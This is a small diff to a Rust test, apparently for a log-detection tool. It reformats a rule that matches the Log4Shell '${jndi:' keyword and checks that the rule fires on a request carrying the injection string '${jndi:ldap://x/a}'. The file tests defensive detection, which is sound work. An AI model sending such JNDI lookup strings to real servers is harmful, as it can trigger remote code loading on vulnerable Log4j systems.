@@ -91,7 +91,8 @@ fn every_request_is_a_line() {
 
 #[test]
 fn what_the_firewall_lets_through_in_log_mode_is_seen() {
-    let detection = "    keywords: ['${jndi:']\n    filter: { sc-status: 404 }\n    condition: keywords and not filter\n";
+    let detection =
+        "    keywords: ['${jndi:']\n    filter: { sc-status: 404 }\n    condition: keywords and not filter\n";
     let answered = request("attack_detected", "/?q=${jndi:ldap://x/a}", 200);
     assert!(fires(detection, answered));
 }
